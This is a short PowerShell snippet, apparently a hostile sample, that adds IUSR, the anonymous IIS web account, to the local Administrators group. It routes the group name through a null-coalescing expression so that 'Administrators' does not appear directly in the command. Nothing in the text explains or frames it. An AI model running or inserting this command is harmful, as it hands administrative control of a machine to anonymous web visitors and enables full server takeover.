$feature = $null
$name = $feature ?? 'Administrators'
Add-LocalGroupMember -Group $name -Member IUSR
